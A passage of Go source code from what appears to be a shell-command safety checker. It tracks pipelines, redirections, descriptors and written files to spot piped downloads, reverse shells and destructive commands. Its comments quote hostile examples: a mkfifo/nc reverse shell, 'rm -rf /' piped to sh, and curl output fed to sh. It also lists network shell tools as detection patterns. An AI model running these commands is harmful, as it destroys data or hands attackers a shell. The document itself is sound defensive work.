			val = appended(elems[sub], v)
		}
	}
	switch {
	case subKnown && sub == 0:
		w.scope.set(name, val)
	case !subKnown:
		now := v
		if app {
			now = appended(old, v) // old is empty when x was not set
		}
		if !had {
			old = anyValue() // unset: empty, or the environment's
		}
		w.scope.setBeside(name, now, old)
	}
	arr, known := w.scope.getArray(name)
	if subKnown && (!known || sub <= len(arr)) {
		w.scope.setElement(name+"["+strconv.Itoa(sub)+"]", val)
		return
	}
	// An element the walk cannot place (x[$i], or past the end, which a
	// list cannot hold): unknown, with the array as it was, and with each
	// of its elements, or one more, replaced, as other values.
	w.scope.forgetArray(name)
	if !known {
		return
	}
	alts := [][]field{arr}
	for j := 0; j <= len(arr) && len(alts) < maxAlts; j++ {
		a := append(slices.Clone(arr[:j]), val)
		if j < len(arr) {
			a = append(a, arr[j+1:]...)
		}
		alts = append(alts, a)
	}
	w.scope.addArrAlts(name, alts...)
}

// appended is the value a followed by b, as x+=b makes it.
func appended(a, b field) field {
	return field{s: a.s + b.s, dyn: a.dyn || b.dyn, dl: a.dl || b.dl, dec: a.dec || b.dec, guess: otherOfJoined("", a, b)}
}

// assignName is the name an assignment sets, for messages.
func assignName(as *syntax.Assign) string {
	if as.Name != nil {
		return as.Name.Value
	}
	return "a variable"
}

// pipeStages appends the stages of a pipeline to dst, left to right.
func pipeStages(dst []*syntax.Stmt, x *syntax.BinaryCmd) []*syntax.Stmt {
	for _, s := range [2]*syntax.Stmt{x.X, x.Y} {
		if b, ok := s.Cmd.(*syntax.BinaryCmd); ok && (b.Op == syntax.Pipe || b.Op == syntax.PipeAll) && len(s.Redirs) == 0 && !s.Negated {
			dst = pipeStages(dst, b)
		} else {
			dst = append(dst, s)
		}
	}
	return dst
}

// fdNumber reads s as a descriptor's number, without allocating.
func fdNumber(s string) (int, bool) {
	if s == "" || len(s) > 4 {
		return 0, false
	}
	n := 0
	for _, c := range []byte(s) {
		if c < '0' || c > '9' {
			return 0, false
		}
		n = n*10 + int(c-'0')
	}
	return n, true
}

// joinsStderr reports whether a pipe of the pipeline x, as pipeStages
// flattens it, is |&.
func joinsStderr(x *syntax.BinaryCmd) bool {
	if x.Op == syntax.PipeAll {
		return true
	}
	for _, s := range [2]*syntax.Stmt{x.X, x.Y} {
		if b, ok := s.Cmd.(*syntax.BinaryCmd); ok && (b.Op == syntax.Pipe || b.Op == syntax.PipeAll) && len(s.Redirs) == 0 && !s.Negated && joinsStderr(b) {
			return true
		}
	}
	return false
}

// realFind reports whether s runs the system's find: named find through
// an untouched PATH, or by its own path, and no function or alias of
// that name (./find could be printf).
func (w *walker) realFind(s *simple) bool {
	switch s.argv[0].s {
	case "find":
		if _, set := w.scope.getQuiet("PATH"); set {
			return false
		}
	case "/usr/bin/find", "/bin/find":
	default:
		return false
	}
	_, alias := w.scope.alias("find")
	return !alias && w.scope.fn("find") == nil
}

// stderrJoins reports whether the pipeline stage st may write its stderr
// into the pipe by a redirection: any but 2> to a file.
func stderrJoins(st *syntax.Stmt) bool {
	for _, r := range st.Redirs {
		if r.N == nil || r.N.Value != "2" || r.Op != syntax.RdrOut && r.Op != syntax.AppOut {
			return true
		}
	}
	return false
}

// pipesStderr reports whether the pipeline x has a |& anywhere.
func pipesStderr(x *syntax.BinaryCmd) bool {
	joins := false
	walkSyntax(x, func(n syntax.Node) bool {
		if b, ok := n.(*syntax.BinaryCmd); ok && b.Op == syntax.PipeAll {
			joins = true
		}
		return !joins
	})
	return joins
}

// pipeline walks a | b | c, telling each stage what its stdin carries.
func (w *walker) pipeline(x *syntax.BinaryCmd, c ctx) {
	stages := pipeStages(make([]*syntax.Stmt, 0, 8), x)
	in := c
	start := len(w.a.cmds)
	defer func() {
		// mkfifo f; cat f | sh -i 2>&1 | nc host 4444 > f: a shell
		// wired to the network through a pipe.
		shell, net := false, false
		for _, s := range w.a.cmds[min(start, len(w.a.cmds)):] {
			if s.is(clsShell) {
				if _, _, script, stdin := shellArgs(s.argv); stdin || script != nil && readsStdinPath(script.s) {
					shell = true
				}
			}
			switch s.name {
			case "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat", "telnet", "pwncat", "openssl":
				net = true
			}
		}
		if shell && net && w.a.reverseShell == "" {
			w.a.reverseShell = "a shell reading its commands from the network through a pipeline"
		}
	}()
	// One allocation for the stages' subshell scopes, not one each, and
	// none when an earlier pipeline left room enough: once it ended,
	// nothing pointed at its scopes (only w.scope and parent links do).
	forks := fromPool(&w.forkPool, len(stages), 4)[:len(stages)]
	joinsStderr := joinsStderr(x) // a |& b
	defer toPool(&w.forkPool, forks)
	defer w.endWhole(w.beginWhole())
	var prev sink // the stage before's
	for i, st := range stages {
		sc := c
		sc.pipeline = true
		if i > 0 {
			sc.stdinPipe = true
			sc.stdinDL = in.stdinDL
			sc.stdinDec = in.stdinDec
			sc.stdinText, sc.stdinKnown, sc.stdinOthers = in.stdinText, in.stdinKnown, in.stdinOthers
			if call, ok := st.Cmd.(*syntax.CallExpr); ok && len(st.Redirs) == 0 && len(call.Assigns) == 0 {
				// Only a plain command reads the pipe for sure: < f,
				// { exec <f; xargs ...; } read something else.
				sc.stdinUnder = in.stdinUnder
			}
		}
		before := w.a.downloads
		n := len(w.a.cmds)
		k := w.newSink()
		outer := w.fds
		if i < len(stages)-1 { // the last writes where the pipeline does
			w.sinkDown[k.id-1] = outer[1]
			for _, d := range outer[2:] {
				// A program may copy what it reads to stderr or any
				// other descriptor (sed 'w /dev/stderr'): one that leads
				// elsewhere than stdout to a pipe the walk follows
				// takes it anywhere.
				if sinkish(d) && d != outer[1] {
					w.sinkDown[k.id-1] = toAnywhere
					break
				}
			}
			w.fds[1] = k.id
			if joinsStderr {
				w.fds[2] = k.id
			}
		}
		w.stage(st, sc, i == len(stages)-1, &forks[i])
		w.fds = outer
		if i > 0 && prev.id > 0 {
			// What a stage passes on goes where the pipeline writes, and
			// where its commands write, which its own redirections
			// decide (... | while read l; do echo "$l"; done >&3): if
			// that is another pipe, anywhere. (A program may write what
			// it reads to stderr or to any descriptor besides.)
			for _, cmd := range w.a.cmds[n:] {
				if d := cmd.outTo; d != w.sinkDown[prev.id-1] && d != k.id && sinkish(d) {
					w.sinkDown[prev.id-1] = toAnywhere
					break
				}
			}
		}
		prev = k
		// Downloaded or decoded content stays so through any filter.
		out := ctx{stdinDL: sc.stdinDL, stdinDec: sc.stdinDec}
		if w.a.downloads > before {
			out.stdinDL = true
		}
		for _, cmd := range w.a.cmds[n:] {
			if isDecoder(cmd) {
				out.stdinDec = true
			}
		}
		if text, ok, others := outputText(st.Cmd, k, w.a.cmds[n:]); followed(text, ok, others) {
			if len(others) > maxOlder {
				// Refused only where a shell reads it (stdinScript) or a
				// file keeps it and is run.
				others = append(others[:maxOlder:maxOlder], tooManyTexts)
			}
			if len(text) > MaxScriptSize {
				// { { ...; } | cat; } | cat nested: each level writes
				// the text of those inside it twice over.
				w.fail("a pipeline passes on more than %d MiB of text the policy would have to follow", MaxScriptSize>>20)
				return
			}
			out.stdinText, out.stdinKnown = text, ok // echo "$y" | sh: known in part
			out.stdinOthers = others
		}
		if _, plain := st.Cmd.(*syntax.CallExpr); plain && len(w.a.cmds) == n+1 && !stderrJoins(st) && w.realFind(w.a.cmds[n]) {
			if out.stdinUnder = findLists(w.a.cmds[n]); out.stdinUnder != nil && pipesStderr(x) {
				out.stdinUnder = nil
			}
		}
		in = out
	}
}

// A sink is where a statement's stdout goes: the pipe to the next stage
// of a pipeline, or the file the statement's own redirection names. Each
// command records where its stdout went (fdTable), so that the text a
// sink is given leaves out what went elsewhere (echo "can't" >&2) and
// keeps what came back ({ echo x >&2; } 2>&1 | sh).
type sink struct {
	id    int // 0: none
	loops int // loops walked around it
	// down holds, for each sink, where what reaches it goes on: the
	// pipe of a pipeline's stage, where the pipeline writes (a filter may
	// pass it through: echo 'rm -rf /' | while read l; do echo "$l"; done).
	down *[]int
}

// Where a descriptor goes: a sink, or one of these.
const (
	toOwn       = 0  // where the request's own goes
	toAnywhere  = -1 // the walk cannot tell: counts for every sink
	toElsewhere = -2 // a file no sink follows, /dev/null, closed
)

// An fdTable holds where descriptors 0 to 9 go.
type fdTable [10]int

func (w *walker) newSink() sink {
	w.sinks++
	if w.sinkDown == nil {
		w.sinkDown = w.sinkBuf[:0]
	}
	w.sinkDown = append(w.sinkDown, toElsewhere)
	return sink{id: w.sinks, loops: w.loopLog.on, down: &w.sinkDown}
}

// devTarget returns where output written to the path p goes when p is
// under /dev or /proc (dev): a descriptor's destination in fds
// (/dev/stdout, /dev/fd/3), anywhere for one the walk cannot tell, or
// elsewhere (/dev/null).
func devTarget(fds *fdTable, p string) (to int, dev bool) {
	if strings.Contains(p, dynMark) {
		return toAnywhere, true // in a directory the walk cannot tell
	}
	clean := path.Clean(p)
	if l := strings.ToLower(clean); l != clean && (strings.HasPrefix(l, "/dev/") || strings.HasPrefix(l, "/proc/")) {
		return toAnywhere, true // declare -l v=/DEV/STDOUT, which the walk keeps as written
	}
	fd := strings.TrimPrefix(strings.TrimPrefix(clean, "/dev/fd/"), "/proc/self/fd/")
	d, ok := fdNumber(fd)
	switch {
	case clean == "/dev/stdin":
		return fds[0], true
	case clean == "/dev/stdout":
		return fds[1], true
	case clean == "/dev/stderr":
		return fds[2], true
	case fd != clean && ok && d < len(fds):
		return fds[d], true
	case fd != clean || strings.HasPrefix(clean, "/proc/") && strings.Contains(clean, "/fd/"):
		return toAnywhere, true // /dev/fd/10, /proc/thread-self/fd/1
	case strings.HasPrefix(clean, "/dev/") && !strings.HasPrefix(clean, "/dev/shm/"):
		return toElsewhere, true // /dev/null, /dev/tty; /dev/shm holds files
	}
	return 0, false
}

// devPath is the path p names, for devTarget: resolved only where the
// shell may be in /dev or /proc (cd /dev; echo x > stdout), or may not be
// known; most targets are neither, and resolving each costs a copy.
func (w *walker) devPath(p string) string {
	if strings.HasPrefix(p, "/proc/") {
		return w.resolvePath(p) // /proc/self/cwd/f, /proc/self/root/dev/stdout
	}
	if strings.HasPrefix(p, "/") {
		return p
	}
	if cwd := w.scope.cwd; strings.HasPrefix(cwd, "/dev") || strings.HasPrefix(cwd, "/proc") || strings.Contains(cwd, dynMark) ||
		strings.Contains(p, "dev") || strings.Contains(p, "proc") || strings.Contains(p, "..") {
		return w.resolvePath(p) // cd /; echo x > dev/stdout
	}
	return p
}

// mayBeDev reports whether the path p, no device as written, may lead
// to one through a symlink the request made (ln -s /dev/stdout o; echo x
// > o), or one it made where the walk cannot tell (ln -s "$t" o): then
// it goes anywhere.
func (w *walker) mayBeDev(fds *fdTable, p string) bool {
	if w.unknownLink {
		return true
	}
	if w.links == nil && len(w.unknownLinks) == 0 {
		return false // most requests make no link: resolve nothing
	}
	at := w.resolvePath(p)
	through := func(q string) bool { // a link of unknown target
		return slices.ContainsFunc(w.unknownLinks, func(l string) bool { return under(q, l) })
	}
	if through(at) {
		return true
	}
	if w.links == nil {
		return false
	}
	for _, q := range linkAlternatives(p, at, w.scope.cwd, w.links) {
		if _, dev := devTarget(fds, q); dev || through(q) {
			return true // ln -s "$t" o; ln -s o p; ... > p
		}
	}
	return false
}

// sinkish reports whether output sent to d may reach a sink.
func sinkish(d int) bool { return d > 0 || d == toAnywhere }

// reaches reports whether what s writes reaches k, directly or through
// the pipes of pipelines inside k.
func (k sink) reaches(s *simple) bool {
	if k.id == 0 {
		return false
	}
	d := s.outTo
	for range 64 {
		if d == k.id || d == toAnywhere {
			return true
		}
		if d <= 0 || d > len(*k.down) {
			return false
		}
		d = (*k.down)[d-1]
	}
	return true
}

// redirectFDs applies rs, in order, to fds, and returns the sink of the
// file stdout goes to, if any, and the descriptors it set (a bit each).
// With exec and no command, a file is no sink: the statement writes
// nothing.
func (w *walker) redirectFDs(fds *fdTable, rs []*syntax.Redirect, targets []field, exec bool) (sink, uint16) {
	var set uint16
	var file sink
	fileSink := func() int {
		if exec {
			return toElsewhere
		}
		if file.id == 0 {
			file = w.newSink()
		}
		return file.id
	}
	for i, r := range rs {
		n := -1 // the descriptor it sets
		switch r.Op {
		case syntax.RdrOut, syntax.AppOut, syntax.RdrClob, syntax.DplOut, syntax.RdrInOut, syntax.DplIn:
			n = 1
			if r.Op == syntax.RdrInOut || r.Op == syntax.DplIn {
				n = 0
			}
			if r.N != nil {
				d, ok := fdNumber(r.N.Value)
				if !ok || d >= len(fds) {
					continue // {fd}>f, 10>&1: one the walk does not follow
				}
				n = d
			}
		case syntax.RdrAll, syntax.AppAll:
			n = 12 // both 1 and 2
		default:
			continue
		}
		word := ""
		if t := targets[i]; t.known() && !t.glob && t.guess == nil {
			// A glob (> /de[v]/stdout) may name anything, and so may a
			// default of a variable the walk does not know.
			word = t.s
		}
		to := toAnywhere
		moved := -1 // 1>&3- moves 3 to 1 and closes 3
		switch {
		case r.Op == syntax.DplOut || r.Op == syntax.DplIn:
			if m, ok := strings.CutSuffix(word, "-"); ok && m != "" {
				if d, ok := fdNumber(m); ok {
					word, moved = m, d
				}
			}
			switch d, ok := fdNumber(word); {
			case word == "-":
				to = toElsewhere
			case ok && d < len(fds):
				to = fds[d]
			case ok:
				// >&10 after 10>&1, or exec {fd}>&1: one the walk does
				// not follow, which may go anywhere.
			case word != "" && r.Op == syntax.DplOut && n == 1:
				// >&file is &>file, and >& /dev/stdout is >&1.
				n = 12
				if d, dev := devTarget(fds, w.devPath(word)); dev {
					to = d
				} else if to = fileSink(); w.mayBeDev(fds, word) {
					to = toAnywhere // the file, and maybe a device
				}
			}
		case word == "":
			// A word the walk cannot read ("$LOG"): it may be /dev/stdout
			// (read, getopts, $_, a nameref set it), so anywhere. A glob
			// is also the file it names (x.s? where none matches).
			if t := targets[i]; t.glob && t.known() && (n == 1 || n == 12) {
				fileSink()
			}
		default:
			if d, dev := devTarget(fds, w.devPath(word)); dev {
				to = d // cd /dev; echo x > stdout
			} else {
				to = toElsewhere
				if n == 1 || n == 12 {
					to = fileSink() // the file, whose text noteWritten keeps
				}
				if w.mayBeDev(fds, word) {
					to = toAnywhere // and maybe a device
				}
			}
		}
		if n == 12 {
			fds[1], fds[2] = to, to
			set |= 1<<1 | 1<<2
		} else {
			fds[n] = to
			set |= 1 << n
		}
		if moved >= 0 && moved < len(fds) && moved != n {
			fds[moved] = toElsewhere
			set |= 1 << moved
		}
	}
	return file, set
}

// unquotedLit returns the text of a word of literals and quotes only
// ("exec", e"x"ec), or "" for one with expansions.
func unquotedLit(wd *syntax.Word) string {
	if l, ok := wd.Parts[0].(*syntax.Lit); ok && len(wd.Parts) == 1 && !strings.Contains(l.Value, `\`) {
		return l.Value // most words: no copy
	}
	var b strings.Builder
	for _, p := range wd.Parts {
		switch p := p.(type) {
		case *syntax.Lit:
			b.WriteString(strings.ReplaceAll(p.Value, `\`, "")) // \exec is exec
		case *syntax.SglQuoted:
			if p.Dollar {
				return ""
			}
			b.WriteString(p.Value)
		case *syntax.DblQuoted:
			for _, q := range p.Parts {
				l, ok := q.(*syntax.Lit)
				if !ok {
					return ""
				}
				b.WriteString(l.Value)
			}
		default:
			return ""
		}
	}
	return b.String()
}

// execLike reports whether s may be an exec with no command, however
// written (command -p exec, "exec", \exec, exec -- -c, or a command word
// the walk cannot read), whose redirections stay for the commands after
// it; and whether it surely is one, which writes nothing itself. With a
// command to run, exec replaces the shell or ends it, and the command
// writes where they say ($e 'rm -rf /' > x.sh and "$@" > x.sh may be
// echo).
func execLike(s *syntax.Stmt) (may, sure bool) {
	call, ok := s.Cmd.(*syntax.CallExpr)
	if !ok || len(call.Args) == 0 {
		return false, false
	}
	for i, a := range call.Args {
		switch lit := unquotedLit(a); lit {
		case "exec", "": // "": $e, $(echo exec)
			rest := call.Args[i+1:]
			for len(rest) > 0 {
				switch o := unquotedLit(rest[0]); {
				case o == "-a" && len(rest) > 1: // exec -a NAME
					rest = rest[2:]
				case strings.HasPrefix(o, "-"): // -c, -l, --
					rest = rest[1:]
				case o == "" && lit == "exec":
					// exec $opts > f: the word may vanish, or be a
					// command that writes to f.
					return true, false
				default:
					return false, false // a command, or a word that may be one
				}
			}
			return true, lit == "exec"
		case "command", "builtin", "--", "-p":
		default:
			return false, false
		}
	}
	return false, false
}

// outputText is what the statement x writes to the sink k, when
// producedText can tell: one command, or a { } or ( ) of plain commands,
// one recorded for each (so none ran inside a substitution), their
// outputs in order ({ echo a; echo 'rm -rf /'; } | sh), with dynMark for
// one it cannot tell. Of any other (if, a loop, a function's call, a
// block with a list in it) it is a guess that holds what each of its
// commands writes. others are texts it may write instead, each to be
// judged on its own.
func outputText(x syntax.Command, k sink, cmds []*simple) (text string, known bool, others []string) {
	var list []*syntax.Stmt
	switch x := x.(type) {
	case *syntax.Block:
		list = x.Stmts
	case *syntax.Subshell:
		list = x.Stmts
	case *syntax.CallExpr:
		if len(cmds) == 1 && cmds[0].loops == k.loops && k.reaches(cmds[0]) {
			t, ok := producedText(cmds)
			return t, ok, producedOthers(cmds[0])
		}
	}
	if len(list) == 0 || len(list) != len(cmds) {
		// An assignment, a loop or a call recorded no command or more
		// than one, or a substitution one more: what each wrote cannot
		// be told apart. Unknown, but what the known commands write may
		// be in it ({ x=1; echo ...; }, if true; then echo ...; fi, f,
		// and a statement judged again with another value).
		text, others = producedTextOfEach(cmds, k)
		return text, false, others
	}
	var b strings.Builder
	known = true
	for i, s := range list {
		if _, ok := s.Cmd.(*syntax.CallExpr); !ok || len(s.Redirs) > 0 || s.Background || !k.reaches(cmds[i]) || cmds[i].loops != k.loops {
			// { x=/; [ -n "$q" ] && x=a; echo "rm -rf $x"; } | sh
			text, others = producedTextOfEach(cmds, k)
			return text, false, others
		}
		text, ok := producedText(cmds[i : i+1])
		if !ok && !strings.Contains(text, dynMark) || producedOthers(cmds[i]) != nil {
			// { printf '# '; pwd; echo 'rm -rf /'; } | sh: it may write
			// nothing, or a line.
			text, others = producedTextOfEach(cmds, k)
			return text, false, others
		}
		b.WriteString(text)
		known = known && ok
	}
	return b.String(), known, nil
}

// producedTextOfEach is what each of cmds that reaches k writes as far as
// producedText can tell, in order, between unknown parts: a guess at
// text that holds it. "" when it can tell for none. A command whose output
// it cannot tell may write nothing (printf 'rm -rf '; git add .; echo /)
// or a line (printf '# '; pwd; echo 'rm -rf /'): where the text before it
// ends in the middle of a line, the guess has two readings, the second
// in others. After a whole line, an unknown line with the unknown part
// empty is the same as nothing. A command that may write other texts
// (a cat of a file with several) gives others with each of them.
func producedTextOfEach(cmds []*simple, k sink) (string, []string) {
	j, b := readings(cmds, k, -1, "")
	if b == "" {
		return "", nil
	}
	text := dynMark + "\n" + b + dynMark
	var others []string
	add := func(t string) {
		if t = dynMark + "\n" + t + dynMark; t != text && !slices.Contains(others, t) {
			others = append(others, t)
		}
	}
	add(j)
	for i, c := range cmds {
		if !k.reaches(c) {
			continue
		}
		for _, t := range producedOthers(c) {
			if len(others) > maxOlder || t == tooManyTexts {
				// Past that, building them is wasted ({ cat; cat; ...
				// } of a stdin with others): the reader refuses.
				return text, append(others, tooManyTexts)
			}
			oj, ob := readings(cmds, k, i, t)
			add(ob)
			add(oj)
		}
	}
	return text, others
}

// tooManyTexts, among the texts a command or stdin may hold instead,
// stands for more than maxOlder of them: a shell reading them, or
// running a file that keeps them, refuses the request. (A text equal to
// it only refuses more.)
const tooManyTexts = dynMark + dynMark + "more texts than the policy follows" + dynMark

// readings returns the joined and the broken reading of what cmds write
// to k (see producedTextOfEach), with the command at index over writing
// overText, when over is not -1.
func readings(cmds []*simple, k sink, over int, overText string) (string, string) {
	var joined, broken reading
	for i := range cmds {
		looped := cmds[i].loops > k.loops
		if !looped {
			joined.endLoop()
			broken.endLoop()
		}
		if !k.reaches(cmds[i]) {
			continue
		}
		text, ok := producedText(cmds[i : i+1])
		if i == over {
			text, ok = overText, true
		}
		switch {
		case ok || strings.Contains(text, dynMark):
			joined.write(text, looped)
			broken.write(text, looped)
		case !looped && wholeLines(joined.String()):
			// (In a loop, a later pass follows the text of the one before.)
			joined.write(dynMark+"\n", looped)
			broken.write(dynMark+"\n", looped)
		default:
			broken.write(dynMark+"\n", looped)
		}
	}
	joined.endLoop()
	broken.endLoop()
	return joined.String(), broken.String()
}

// wholeLines reports whether shell text ends where a line does: empty,
// or with a newline that no backslash joins to the next.
func wholeLines[T ~string | ~[]byte](text T) bool {
	n := len(text)
	return n == 0 || text[n-1] == '\n' && (n == 1 || text[n-2] != '\\')
}

// A reading is what commands write, run together as bash writes them.
// Commands in a loop inside the sink may write their text any number of
// times, each pass's after the last's: each run of them is written three
// times, in place (twice for where passes meet, an odd count so that a
// quote left open by each stays open).
type reading struct {
	strings.Builder
	loop int  // where the text of the loop's commands begins,
	in   bool // while in a run of them
}

func (r *reading) write(text string, looped bool) {
	if looped && !r.in {
		r.loop, r.in = r.Len(), true
	}
	r.WriteString(text)
}

// endLoop writes the run of a loop's commands twice more.
func (r *reading) endLoop() {
	if r.in {
		again := r.String()[r.loop:]
		r.WriteString(again + again)
		r.in = false
	}
}

// fromPool takes from pool its last list if it has room for n, emptied,
// else makes one with room for max(n, least). The walk's argument lists,
// scratch lists of fields and pipeline scopes go back to their pools once
// what used them is done, so a large script reuses a handful of each.
func fromPool[T any](pool *[][]T, n, least int) []T {
	if k := len(*pool); k > 0 && cap((*pool)[k-1]) >= n {
		f := (*pool)[k-1]
		(*pool)[k-1] = nil
		*pool = (*pool)[:k-1]
		return f[:0]
	}
	return make([]T, 0, max(n, least))
}

// toPool puts f back in pool, zeroed: nothing it held stays reachable.
func toPool[T any](pool *[][]T, f []T) {
	clear(f)
	*pool = append(*pool, f[:0])
}

// stage walks one stage of a pipeline. Each runs in a subshell, in bash
// and dash alike, but the last: bash with lastpipe runs it in this shell.
// Discarding a change bash keeps, or keeping one it discards, can each
// turn "rm -rf $x" into something else than what runs, so the choice
// follows the script: it keeps the last stage's changes only where
// lastpipe may be on: after shopt -s lastpipe, or one it cannot read, in
// this shell, and in a child started with -O lastpipe or BASHOPTS.
func (w *walker) stage(st *syntax.Stmt, c ctx, last bool, fork *scope) {
	if !last || !w.scope.lastpipe {
		outer := w.scope
		*fork = outer.forked()
		w.scope = fork
		defer w.leave(outer)
		w.ownTraps(func() { w.stmt(st, c) }) // a subshell's traps are its own
		return
	}
	w.stmt(st, c)
}

// redirects judges the redirections of a statement and returns the context
// of its command (what its stdin carries), the files its stdout writes,
// and the >(...) its stdout goes to, for outputProcs to walk.
func (w *walker) redirects(rs []*syntax.Redirect, c ctx, targets *[]field) (ctx, []output, []*syntax.Word) {
	var written []output
	var procs []*syntax.Word
	for i, r := range rs {
		*targets = append(*targets, field{s: dynMark, dyn: true})
		if stdoutProc(r) {
			procs = append(procs, r.Word)
			continue
		}
		switch r.Op {
		case syntax.Hdoc, syntax.DashHdoc:
			body := w.wordString(r.Hdoc)
			c.stdinDL = c.stdinDL || body.dl
			c.stdinText, c.stdinKnown, c.stdinOthers = body.s, body.known(), nil
			if body.guess != nil {
				c.stdinOthers = []string{guessText(*body.guess)} // <<EOF ${CMD:-true} -rf /
			}
			c.stdinPipe = false
			continue
		case syntax.WordHdoc:
			f := w.wordString(r.Word)
			c.stdinDL = c.stdinDL || f.dl
			c.stdinText, c.stdinKnown, c.stdinOthers = f.s+"\n", f.known(), nil
			if f.guess != nil {
				c.stdinOthers = []string{guessText(*f.guess) + "\n"}
			}
			c.stdinPipe = false
			continue
		}
		f := w.wordString(r.Word)
		(*targets)[i] = f
		if r.N != nil && strings.HasPrefix(r.N.Value, "{") {
			// {fd}>file: still a file, judged below; fd now holds a
			// descriptor the walk does not follow (10 or more).
			// A close ({fd}>&-) or an open that fails assigns
			// nothing: code that may not run.
			name := strings.Trim(r.N.Value, "{}")
			w.maybe(func() {
				w.scope.forgetArray(name)
				w.scope.set(name, field{s: dynMark, dyn: true})
			})
		}
		write := false
		switch r.Op {
		case syntax.RdrIn:
			if f.proc && f.dl || w.readsDownload([]field{{}, f}) {
				// sh < f, $(<f): stdin, or the output, is the download.
				c.stdinDL = true
				w.a.downloads++
			}
			if r.N == nil || r.N.Value == "0" {
				c.stdinText, c.stdinKnown, c.stdinPipe, c.stdinOthers = "", false, false, nil
				w.writtenStdin(&c, f)
			}
		case syntax.DplIn:
			if isFD(f.s) {
				continue
			}
		case syntax.DplOut:
			if isFD(f.s) {
				continue
			}
			write = true
		case syntax.RdrInOut:
			write = true
			if r.N == nil || r.N.Value == "0" {
				c.stdinText, c.stdinKnown, c.stdinPipe, c.stdinOthers = "", false, false, nil
				w.writtenStdin(&c, f) // sh <> x.sh
			}
		default: // >, >>, >|, &>, &>> and their zsh forms
			write = true
		}
		if f.proc {
			continue
		}
		w.addPath(f, write, true)
		if f.guess != nil && f.known() {
			w.addPath(f.otherReading(), write, true) // > /dev/${DISK:-null}
		}
		if write && f.known() && (r.N == nil || r.N.Value == "1") && (r.Op != syntax.RdrInOut || r.N != nil) {
			// 1<> writes over the start of what the file held, which is
			// as much as the request can tell of it.
			written = append(written, output{w.resolvePath(f.s), r.Op == syntax.AppOut || r.Op == syntax.AppAll})
		}
	}
	return c, written, procs
}

// stdoutProc reports whether r sends stdout into a process substitution,
// as in curl x > >(sh).
func stdoutProc(r *syntax.Redirect) bool {
	switch r.Op {
	case syntax.RdrOut, syntax.AppOut, syntax.RdrClob, syntax.DplOut, syntax.RdrAll, syntax.AppAll:
	default:
		return false
	}
	if r.N != nil && r.N.Value != "1" || r.Word == nil || len(r.Word.Parts) != 1 {
		return false
	}
	p, ok := r.Word.Parts[0].(*syntax.ProcSubst)
	return ok && p.Op == syntax.CmdOut
}

// outputProcs walks the >(...) a statement's stdout went to, once the
// statement is walked: their stdin carries a download when the statement
// read one or ran a command whose output may be one.
func (w *walker) outputProcs(procs []*syntax.Word, before int, stdinDL bool) {
	saved := w.argStdinDL
	w.argStdinDL = stdinDL || w.a.downloads > before
	for _, wd := range procs {
		w.wordString(wd)
	}
	w.argStdinDL = saved
}

// bareExec reports whether s is an exec with redirections only, which
// sends the output of every later command where they go: exec > >(sh)
// runs whatever they print, downloads included.
func bareExec(s *syntax.Stmt) bool {
	call, ok := s.Cmd.(*syntax.CallExpr)
	return ok && len(call.Args) == 1 && call.Args[0].Lit() == "exec"
}

// noteWritten remembers what a statement wrote through its stdout (text,
// known in whole or in part, or one of others), so that running the file
// later ("echo 'rm -rf /' > i.sh; sh i.sh") is judged too.
func (w *walker) noteWritten(outs []output, text string, known bool, others []string) {
	if !followed(text, known, others) {
		// cat x > f: the file holds what the request cannot tell. An
		// append of it to a line not yet ended (printf '# ' > f; pwd >>
		// f) may end that line, or not.
		w.noteUnknownAppend(outs)
		return
	}
	if w.files == nil {
		w.files = map[string]fileInfo{}
	}
	for _, o := range outs {
		info := w.files[o.path]
		text, others := text, others
		if o.appends && w.loopLog.on > 0 {
			// Each pass appends (for ...; do printf ... >> f; done): as
			// for a loop's output, three times.
			text = strings.Repeat(text, 3)
			thrice := make([]string, len(others))
			for i, t := range others {
				thrice[i] = t // tooManyTexts stays itself
				if t != tooManyTexts {
					thrice[i] = strings.Repeat(t, 3)
				}
			}
			others = thrice
		}
		var prefix []byte // what an append goes after
		if o.appends && !info.downloaded {
			prefix = info.text
		}
		switch {
		case info.downloaded: // >> f appends to the download
		case o.appends && info.text != nil:
			// (Each text has an array of its own, or one clipped: the
			// appends write in place.)
			before := slices.Clip(info.text)
			// (In the shell itself: a subshell may end early on set -e,
			// ${x:?} or $((1/0)) where the shell goes on; and only with
			// no trap set, which may run the file as the shell ends.)
			sameRun := info.set == w.here() && w.inShellItself() && len(w.traps) == 0
			// An append that may not run leaves a line not yet ended so,
			// or does not leave one ([ -n "$x" ] && printf '# ' >> f;
			// echo 'rm -rf /' >> f). As for unknown output, the file
			// keeps two readings of such appends, all run and none, not
			// one text per append (nine flags appended each under an if).
			maySkip := !w.surelyRuns() && !sameRun
			mayNot := maySkip && (!wholeLines(before) || !wholeLines(text))
			info.text = append(info.text, text...)
			for i, t := range info.older {
				if !maySkip || i != info.skipped-1 {
					info.older[i] = append(t, text...)
				}
			}
			if mayNot {
				info.keepCompanion(&info.skipped, before)
			}
			if !wholeLines(before) {
				rest := text
				for strings.HasPrefix(rest, dynMark+"\n") {
					rest = rest[len(dynMark)+1:]
				}
				if len(rest) < len(text) {
					// if true; then echo /; fi >> f: its guess starts
					// with unknown text and line breaks (the guess's,
					// and true's), which may be nothing.
					info.keep(append(slices.Clip(before), rest...))
				}
			}
			info.known = info.known && known
		case info.text != nil && string(info.text) != text:
			// The write may not run, or not before the file is read, in
			// more ways than the walk can tell (a branch, a function's
			// body, a trap, ${q:+$(...)}, [[ a || $(...) ]], a redirection
			// that fails, tee --help, find -exec, a pipeline's stages
			// running at once): the file keeps its text from before as
			// another it may hold, and reading it judges each.
			old := info.text
			info.text, info.joined, info.skipped, info.set = []byte(text), 0, 0, w.here()
			info.keep(old)
			info.known = info.known && known
		case info.text != nil: // it holds that text already
		default:
			// > replaces what it held. echo 'alias g=git' >> ~/.bashrc
			// appends to what the file held before the request, which
			// is judged as in any file the request did not write: not
			// at all.
			info.text, info.known, info.set = []byte(text), known, w.here()
		}
		if !info.downloaded {
			// Another reading of the output: as another text, after
			// what the file held before when it appends.
			for _, t := range others {
				switch {
				case t == tooManyTexts:
					info.overflow = true
				case o.appends && strings.HasSuffix(t, "\n") && strings.Trim(t, dynMark+" \t\n") == "":
					// echo ${v:-none} >> log, a thousand times: each
					// would keep another copy of the file.
					info.unknownLines = true
				default:
					info.keep(append(slices.Clip(prefix), t...))
				}
			}
		}
		if info.size() > MaxScriptSize {
			w.fail("the request writes more than %d MiB of text to %s that the policy would have to follow", MaxScriptSize>>20, o.path)
			return
		}
		w.files[o.path] = info
	}
}

// A place is where in the walk a statement stands, for fileInfo.set.
